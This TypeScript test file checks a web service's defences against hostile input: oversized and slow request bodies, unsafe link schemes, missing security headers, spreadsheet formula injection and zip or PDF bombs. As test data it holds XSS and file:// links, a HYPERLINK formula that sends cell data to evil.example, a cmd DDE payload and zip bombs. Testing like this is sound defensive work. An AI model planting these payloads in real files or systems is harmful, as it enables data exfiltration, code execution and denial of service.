/**
 * Hostile input changes nothing and stalls nothing: raw bodies only where files are uploaded,
 * each route with its own limit, no large body read before the caller is known, links only
 * http(s), security headers on every page, spreadsheet exports that cannot carry a live
 * formula, zip bombs and page bombs refused before they are inflated, and /health answering
 * while a 19 MB body is on its way.
 */
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestDb, type TestDb } from '../support/db.ts';
import { buildTestApp, TestClock, testDeps } from '../support/app.ts';
import { parse as parseCsv } from 'csv-parse/sync';
import { makeMember, makeOrg, makeOrgTree, makeSecretary, makeUserWithRole } from '../factories/index.ts';
import { exportUnitTable } from '../../api/console/export-unit-table.ts';
import { exportMeetingsTable } from '../../api/console/export-meetings-table.ts';
import { scheduleMeeting } from '../../api/meetings/schedule-meeting.ts';
import { openMeeting } from '../../api/meetings/open-meeting.ts';
import { closeMeeting } from '../../api/meetings/close-meeting.ts';
import type { TableFile } from '../../api/http/table-file.ts';
import { createBots } from '../../bot/bots.ts';
import { readMemberSheet } from '../../api/members/member-sheet.ts';
import { DOCUMENT_LIMITS } from '../../api/extract/document-bounds.ts';
import { pdfWithPages, zipBomb } from '../support/bombs.ts';
import { DEFAULT_BODY_LIMIT, LARGE_BODY_ROUTES, UPLOAD_ROUTES } from '../../api/http/uploads.ts';
import { signLink } from '../../api/http/signed-link.ts';
import type { App } from '../../api/server.ts';
import { LOCAL_DB_PATH, localDbRoutes } from '../../api/db/remote.ts';

let t: TestDb;
let app: App;
let base: string;
const clock = new TestClock(new Date('2026-03-12T12:00:00Z'));
let tree: Awaited<ReturnType<typeof makeOrgTree>>;
let sec: Awaited<ReturnType<typeof makeSecretary>>;
let editor: { token: string };
let meetingId: number;

const MB = 1024 * 1024;
const LOCAL_SECRET = 'local-secret-of-this-test-0123456789';
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const count = async (table: string) => (await t.db.query<{ n: number }>(`select count(*)::int n from ${table}`))[0].n;

beforeAll(async () => {
  t = await createTestDb();
  const deps = testDeps(t.db, clock);
  // The command line's SQL route too (registered while the service owns the embedded database).
  app = await buildTestApp(deps, { plugins: [...createBots(deps, {}).plugins, localDbRoutes(t.db, LOCAL_SECRET)] });
  await app.listen({ port: 0, host: '127.0.0.1' });
  const address = app.server.address() as { port: number };
  base = `http://127.0.0.1:${address.port}`;
  tree = await makeOrgTree(t.db);
  sec = await makeSecretary(t.db, tree.cellA);
  editor = await makeUserWithRole(t.db, tree.province, 'editor');
  const scheduled = await app.inject({
    method: 'POST',
    url: `/orgs/${tree.cellA.id}/meetings`,
    headers: bearer(sec.token),
    payload: { kind: 'regular', startsAt: '2026-03-13T12:00:00Z', mode: 'in_person' },
  });
  meetingId = scheduled.json().id;
});
afterAll(async () => {
  await app?.close();
  await t?.close();
});

/** One request over a real socket; the body is sent in chunks with a pause between them. */
function slowRequest(opts: {
  path: string;
  headers: Record<string, string>;
  size: number;
  chunk?: number;
  pauseMs?: number;
  /** Called after each chunk with the bytes sent so far. */
  onSent?: (bytes: number) => void;
}): Promise<{ status: number; body: string; sentWhenAnswered: number }> {
  const chunk = Buffer.alloc(opts.chunk ?? 256 * 1024, 0x61);
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const req = http.request(
      `${base}${opts.path}`,
      // A connection of its own: a body cut short must not be followed by another request on it.
      { method: 'POST', agent: false, headers: { ...opts.headers, 'content-length': String(opts.size) } },
      (res) => {
        answered = true;
        const sentWhenAnswered = sent;
        let body = '';
        res.on('data', (d) => (body += d));
        res.on('end', () => {
          resolve({ status: res.statusCode ?? 0, body, sentWhenAnswered });
          req.destroy();
        });
      },
    );
    req.on('error', (e) => (answered ? undefined : reject(e)));
    const pump = () => {
      if (answered) return; // the connection is dropped once the answer is read
      if (sent >= opts.size) return req.end();
      const n = Math.min(chunk.length, opts.size - sent);
      sent += n;
      req.write(n === chunk.length ? chunk : chunk.subarray(0, n));
      opts.onSent?.(sent);
      // After the first chunk the server has the headers: give an early refusal time to arrive
      // (up to 1 s), so the client does not write into a connection the server has closed.
      if (sent === n) return void waitForAnswer(1000).then(pump);
      setTimeout(pump, opts.pauseMs ?? 0);
    };
    const waitForAnswer = async (ms: number) => {
      for (let waited = 0; waited < ms && !answered; waited += 10) await new Promise((r) => setTimeout(r, 10));
    };
    pump();
  });
}

async function timeHealth(): Promise<number> {
  const started = performance.now();
  const res = await fetch(`${base}/health`);
  expect(res.status).toBe(200);
  await res.json();
  return performance.now() - started;
}

describe('bodies', () => {
  it('a raw body on a route that takes JSON gets 415 before it is read, and nothing is created', async () => {
    const before = await count('members');
    const res = await slowRequest({
      path: `/orgs/${tree.cellA.id}/members`,
      headers: { ...bearer(sec.token), 'content-type': 'application/octet-stream' },
      size: 19 * MB,
      pauseMs: 5,
    });
    expect(res.status).toBe(415);
    expect(JSON.parse(res.body).message).toMatch(/chỉ nhận dữ liệu JSON/);
    expect(res.sentWhenAnswered).toBeLessThan(19 * MB);
    expect(await count('members')).toBe(before);
  });

  it('an anonymous 19 MB body to an upload route gets 401 before it is buffered', async () => {
    const res = await slowRequest({
      path: `/orgs/${tree.cellA.id}/members/import`,
      headers: { 'content-type': 'text/csv' },
      size: 19 * MB,
      pauseMs: 5,
    });
    expect(res.status).toBe(401);
    expect(res.sentWhenAnswered).toBeLessThan(19 * MB);
  });

  it("the command line's SQL route takes a large body only from a caller with the secret", async () => {
    const anonymous = await slowRequest({
      path: LOCAL_DB_PATH,
      headers: { 'content-type': 'application/json' },
      size: 19 * MB,
      pauseMs: 5,
    });
    expect(anonymous.status).toBe(401);
    expect(anonymous.sentWhenAnswered).toBeLessThan(19 * MB);
    // A statement of 2 MB (a long document's chunks) with the secret is run.
    const text = 'x'.repeat(2 * MB);
    const res = await app.inject({
      method: 'POST',
      url: LOCAL_DB_PATH,
      headers: { 'x-local-secret': LOCAL_SECRET },
      payload: { op: 'query', text: 'select length($1::text) as n', params: [text] },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().rows[0].n).toBe(2 * MB);
  });

  it('each route has its own limit: small by default, larger only where files and documents arrive', async () => {
    for (const key of [...Object.keys(UPLOAD_ROUTES), ...Object.keys(LARGE_BODY_ROUTES)]) {
      const [method, url] = key.split(' ');
      expect(app.hasRoute({ method: method as 'POST', url }), key).toBe(true);
    }
    const before = await count('members');
    const big = await app.inject({
      method: 'POST',
      url: `/orgs/${tree.cellA.id}/members`,
      headers: bearer(sec.token),
      payload: { fullName: 'x'.repeat(DEFAULT_BODY_LIMIT), gender: 'male', status: 'official' },
    });
    expect(big.statusCode).toBe(413);
    expect(big.json().message).toMatch(/quá lớn/);
    expect(await count('members')).toBe(before);
    // A long meeting document, past the default limit in UTF-8, is accepted (that route allows 1 MB).
    const sentence = 'Đảng ủy, chi ủy quyết nghị; đảng viên thực hiện. ';
    const long = sentence.repeat(Math.floor(199_000 / sentence.length));
    expect(Buffer.byteLength(long)).toBeGreaterThan(DEFAULT_BODY_LIMIT);
    const doc = await app.inject({
      method: 'POST',
      url: `/meetings/${meetingId}/documents`,
      headers: bearer(sec.token),
      payload: { title: 'Báo cáo dài', body: long },
    });
    expect(doc.statusCode).toBe(201);
  });

  it('/health answers quickly while a 19 MB upload trickles in', async () => {
    // The same probe on the idle service first: on a loaded shared machine every probe is slower.
    const idle: number[] = [];
    for (let i = 0; i < 10; i++) idle.push(await timeHealth());
    idle.sort((a, b) => a - b);
    let done = false;
    const upload = slowRequest({
      path: `/orgs/${tree.cellA.id}/members/import`,
      headers: { ...bearer(sec.token), 'content-type': 'text/csv' },
      size: 19 * MB,
      pauseMs: 20,
      onSent: (bytes) => {
        done ||= bytes >= 19 * MB;
      },
    });
    void upload.finally(() => {
      done = true;
    });
    const latencies: number[] = [];
    // Probes while the body is on its way; bounded: at most 200 (the upload takes ~2 s).
    for (let i = 0; i < 200 && !done; i++) {
      latencies.push(await timeHealth());
      await new Promise((r) => setTimeout(r, 20));
    }
    const res = await upload;
    // 19 MB of "aaaa…" is not a member list, and reading it does not stall the server either.
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body).message).toMatch(/Không đọc được tệp CSV/);
    latencies.push(await timeHealth());
    expect(latencies.length).toBeGreaterThan(5);
    // The bound is 100 ms on an idle machine (bench:upload-health measures it); this test allows
    // for a loaded, shared one by comparing with the idle probes. A stall shows as one long
    // probe (the original was 11 s).
    latencies.sort((a, b) => a - b);
    const median = (xs: number[]) => xs[Math.floor(xs.length / 2)];
    expect(median(latencies)).toBeLessThan(Math.max(250, 3 * median(idle)));
    expect(latencies.at(-1)).toBeLessThan(Math.max(1000, 3 * idle.at(-1)!));
  });
});

describe('service endpoints', () => {
  it('/metrics answers only the METRICS_TOKEN: not anonymous callers, API tokens or a wrong one', async () => {
    const metricsToken = 'm'.repeat(40);
    const deps = testDeps(t.db, clock);
    const withMetrics = await buildTestApp({ ...deps, config: { ...deps.config, metricsToken } });
    try {
      for (const authorization of [undefined, `Bearer ${sec.token}`, `Bearer ${'n'.repeat(40)}`, metricsToken]) {
        const res = await withMetrics.inject({ url: '/metrics', headers: authorization ? { authorization } : {} });
        expect(res.statusCode, String(authorization)).toBe(401);
        expect(res.body).not.toContain('http_request_duration_seconds');
      }
      const ok = await withMetrics.inject({ url: '/metrics', headers: { authorization: `Bearer ${metricsToken}` } });
      expect(ok.statusCode).toBe(200);
      expect(ok.body).toContain('http_request_duration_seconds');
    } finally {
      await withMetrics.close();
    }
    // Without METRICS_TOKEN, /metrics answers nobody.
    expect(
      (await app.inject({ url: '/metrics', headers: { authorization: `Bearer ${metricsToken}` } })).statusCode,
    ).toBe(401);
  });
});

describe('links', () => {
  it.each([
    'javascript:alert(document.cookie)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'vbscript:msgbox(1)',
    'http://',
  ])('a meeting document link %s gets 400 and nothing is stored', async (url) => {
    const before = await count('meeting_documents');
    const res = await app.inject({
      method: 'POST',
      url: `/meetings/${meetingId}/documents`,
      headers: bearer(sec.token),
      payload: { title: 'Tài liệu', url },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().field).toBe('url');
    expect(await count('meeting_documents')).toBe(before);
  });

  it('an https link is accepted and rendered as a link', async () => {
    const res = await app.inject({
      method: 'POST',
      url: `/meetings/${meetingId}/documents`,
      headers: bearer(sec.token),
      payload: { title: 'Dự thảo', url: 'https://dangbo.example.vn/du-thao.pdf' },
    });
    expect(res.statusCode).toBe(201);
  });
});

describe('security headers', () => {
  const expectHardened = (headers: Record<string, unknown>) => {
    const csp = String(headers['content-security-policy']);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
    expect(scriptSrc).not.toContain('unsafe-inline');
    expect(headers['x-content-type-options']).toBe('nosniff');
    return scriptSrc;
  };

  it('the web chat page may run exactly its own inline script', async () => {
    const res = await app.inject({ url: '/chat' });
    expect(res.statusCode).toBe(200);
    const scriptSrc = expectHardened(res.headers);
    expect(scriptSrc).toMatch(/'sha256-[A-Za-z0-9+/=]+'/);
  });

  it('the signed document page, the API docs and JSON answers carry them too', async () => {
    const [member] = [sec.member];
    const docs = await t.db.query<{ id: number }>(`select id from meeting_documents order by id limit 1`);
    const link = signLink(
      'test-link-secret',
      'meeting-document',
      [docs[0].id, member.id],
      new Date(Date.now() + 3_600_000),
    );
    const page = await app.inject({ url: `/d/${link}` });
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-type']).toMatch(/text\/html/);
    expect(expectHardened(page.headers)).not.toMatch(/sha256/);
    expectHardened((await app.inject({ url: '/docs/static/index.html' })).headers);
    expectHardened((await app.inject({ url: '/health' })).headers);
  });
});

/** Every cell of a CSV or XLSX export: none may start a formula, none may be a formula cell. */
async function exportedCells(file: TableFile): Promise<(string | number)[]> {
  if (file.filename.endsWith('.csv')) {
    const rows = parseCsv(file.data.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
    return rows.flat();
  }
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file.data as unknown as ArrayBuffer);
  const cells: (string | number)[] = [];
  book.worksheets[0].eachRow((row) =>
    row.eachCell((c) => {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(c.value as string | number);
    }),
  );
  return cells;
}

describe('spreadsheet exports', () => {
  it("every export goes through one writer: the console's units and meetings tables neutralise formulas", async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    const sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    const evil = await makeOrg(t.db, 'cell', tree.committee, hyperlink);
    await makeOrg(t.db, 'cell', tree.committee, sum);
    await makeMember(t.db, evil);
    const evilSecretary = await makeSecretary(t.db, evil);
    const meeting = await scheduleMeeting(testDeps(t.db, clock), evilSecretary.principal, {
      cellId: evil.id,
      kind: 'regular',
      startsAt: clock.now(),
      mode: 'in_person',
    });
    await openMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id);
    await closeMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id, { confirm: true });
    const committee = await makeUserWithRole(t.db, tree.committee, 'committee');
    const deps = testDeps(t.db, clock);
    for (const format of ['csv', 'xlsx'] as const) {
      for (const file of [
        await exportUnitTable(deps, committee.principal, tree.committee.id, format),
        await exportMeetingsTable(deps, committee.principal, tree.committee.id, '2026-03', format),
      ]) {
        const cells = await exportedCells(file);
        const texts = cells.filter((c): c is string => typeof c === 'string');
        expect(texts, file.filename).toContain(`'${hyperlink}`);
        for (const c of texts) expect(c, file.filename).not.toMatch(/^[=+\-@\t\r]/);
        if (file.filename.startsWith('so-lieu')) {
          expect(texts).toContain(`'${sum}`);
          // Figures stay numbers (a column of counts, not of text).
          if (format === 'xlsx') expect(cells.filter((c) => typeof c === 'number').length).toBeGreaterThan(0);
        }
      }
    }
  });

  it('a name or phone that starts a formula is exported as text, and imports back as typed', async () => {
    const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    const member = await makeMember(t.db, tree.cellB, {
      fullName: evilName,
      phone: '+84 912 345 678',
      cardNumber: null,
    });
    const admin = await makeUserWithRole(t.db, tree.cellB, 'secretary');
    const csv = await app.inject({ url: `/orgs/${tree.cellB.id}/members?format=csv`, headers: bearer(admin.token) });
    expect(csv.statusCode).toBe(200);
    const text = csv.body;
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`);
    expect(text).toContain("'+84 912 345 678");
    // No cell of the file starts with a formula character.
    for (const line of text.replace(/^\uFEFF/, '').split(/\r?\n/)) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }

    const xlsx = await app.inject({ url: `/orgs/${tree.cellB.id}/members?format=xlsx`, headers: bearer(admin.token) });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    book.worksheets[0].eachRow((row) => row.eachCell((c) => cells.push(c)));
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    expect(cells.map((c) => c.value)).toContain(`'${evilName}`);

    for (const [data, format] of [
      [csv.rawPayload, 'csv'],
      [xlsx.rawPayload, 'xlsx'],
    ] as const) {
      const sheet = await readMemberSheet(data, format);
      const row = sheet.rows.find((r) => r.values.fullName?.includes('HYPERLINK'));
      expect(row?.values.fullName).toBe(member.fullName);
      expect(row?.values.phone).toBe('+84 912 345 678');
    }
  });
});

describe('document bombs', () => {
  const bombSize = DOCUMENT_LIMITS.maxInflatedBytes + 10 * MB;
  let honest: Buffer;
  let lying: Buffer;
  beforeAll(() => {
    honest = zipBomb(bombSize);
    lying = zipBomb(bombSize, 1024);
  });

  it('the bombs are small on the wire', () => {
    expect(honest.length).toBeLessThan(MB);
    expect(lying.length).toBeLessThan(MB);
  });

  it('an XLSX member list that inflates past the bound gets 413 and imports nothing', async () => {
    const before = await count('members');
    for (const bomb of [honest, lying]) {
      const started = performance.now();
      const res = await app.inject({
        method: 'POST',
        url: `/orgs/${tree.cellA.id}/members/import`,
        headers: {
          ...bearer(sec.token),
          'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          'content-disposition': 'attachment; filename="danh-sach.xlsx"',
        },
        payload: bomb,
      });
      expect(res.statusCode).toBe(413);
      expect(res.json().message).toMatch(/quá lớn khi giải nén/);
      expect(performance.now() - started).toBeLessThan(10_000);
    }
    expect(await count('members')).toBe(before);
  });

  it('a DOCX notice attachment bomb gets 413 and no notice is published', async () => {
    const before = await count('notices');
    const res = await app.inject({
      method: 'POST',
      url: `/orgs/${tree.cellA.id}/notices`,
      headers: bearer(sec.token),
      payload: {
        kind: 'notice',
        title: 'Thông báo',
        body: 'Xem tệp đính kèm.',
        attachments: [
          {
            filename: 'thong-bao.docx',
            mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
            contentBase64: zipBomb(bombSize, bombSize, 'word/document.xml').toString('base64'),
          },
        ],
      },
    });
    expect(res.statusCode).toBe(413);
    expect(await count('notices')).toBe(before);
  });

  it('a knowledge upload bomb (DOCX) or a PDF with too many pages gets 413 and starts no job', async () => {
    const before = await count('kb_jobs');
    const docx = await app.inject({
      method: 'POST',
      url: `/orgs/${tree.province.id}/knowledge/documents`,
      headers: {
        ...bearer(editor.token),
        'content-type': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        'content-disposition': 'attachment; filename="huong-dan.docx"',
      },
      payload: lying,
    });
    expect(docx.statusCode).toBe(413);
    const pdf = await app.inject({
      method: 'POST',
      url: `/orgs/${tree.province.id}/knowledge/documents`,
      headers: {
        ...bearer(editor.token),
        'content-type': 'application/pdf',
        'content-disposition': 'attachment; filename="so-tay.pdf"',
      },
      payload: pdfWithPages(DOCUMENT_LIMITS.maxPdfPages + 1),
    });
    expect(pdf.statusCode).toBe(413);
    expect(pdf.json().message).toMatch(/trang/);
    expect(await count('kb_jobs')).toBe(before);
  });
});
